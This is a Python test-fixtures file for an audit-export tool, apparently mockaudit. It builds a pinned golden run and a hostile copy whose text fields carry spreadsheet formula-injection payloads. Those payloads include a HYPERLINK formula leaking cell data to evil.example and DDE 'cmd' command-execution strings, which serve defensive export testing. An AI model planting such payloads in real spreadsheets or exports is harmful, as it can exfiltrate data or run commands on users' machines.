"""Fixed runs for the export tests: the golden run of a built-in pack, and a hostile copy.

The golden run is ``globex-renewal-type2`` audited with seed 7 as of 2026-07-15,
with the run id, start time and version pinned, so every export of it is
byte-for-byte reproducible. The hostile run carries formula-injection payloads
(and non-ASCII text) in every text field of every finding and request.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from mockaudit.domain import Program
from mockaudit.domain.run import Run
from mockaudit.scenarios.loader import load_scenario
from mockaudit.session import audit_folder

PACK = Path(__file__).parents[2] / "scenarios" / "globex-renewal-type2"
PINNED = {
    "id": "run-20260715T093000Z-golden",
    "started_at": datetime(2026, 7, 15, 9, 30, tzinfo=UTC),
    "mockaudit_version": "0.0.0+golden",
}
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=already quoted",
)
UNICODE = "Zoë Ångström — 日本語 § 🚀"


@pytest.fixture(scope="session")
def golden_run() -> Run:
    run = audit_folder(PACK, seed=7, as_of=date(2026, 7, 15))
    return run.model_copy(update=PINNED)


@pytest.fixture(scope="session")
def golden_program() -> Program:
    return load_scenario(PACK).program


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


@pytest.fixture(scope="session")
def hostile_run(golden_run: Run) -> Run:
    """Every text field of every finding and request starts with an injection payload."""
    findings = tuple(
        f.model_copy(
            update={
                "title": payload(i),
                "detail": payload(i + 1) + " " + UNICODE,
                "remediation": payload(i + 2),
                "owner": payload(i + 3),
                "items": (payload(i + 4), UNICODE, payload(i + 5)),
                "control": payload(i + 6),
                "population": payload(i + 7),
                "policy": payload(i),
                "risk": payload(i + 1),
            }
        )
        for i, f in enumerate(golden_run.findings)
    )
    requests = tuple(
        r.model_copy(
            update={
                "description": payload(i) + " " + UNICODE,
                "owner": payload(i + 1),
                "control": payload(i + 2),
                "population": payload(i + 3),
                "follows": payload(i + 4),
                "found": (payload(i + 5),),
                "missing": (payload(i + 6), UNICODE),
            }
        )
        for i, r in enumerate(golden_run.requests)
    )
    return golden_run.model_copy(update={"findings": findings, "requests": requests})
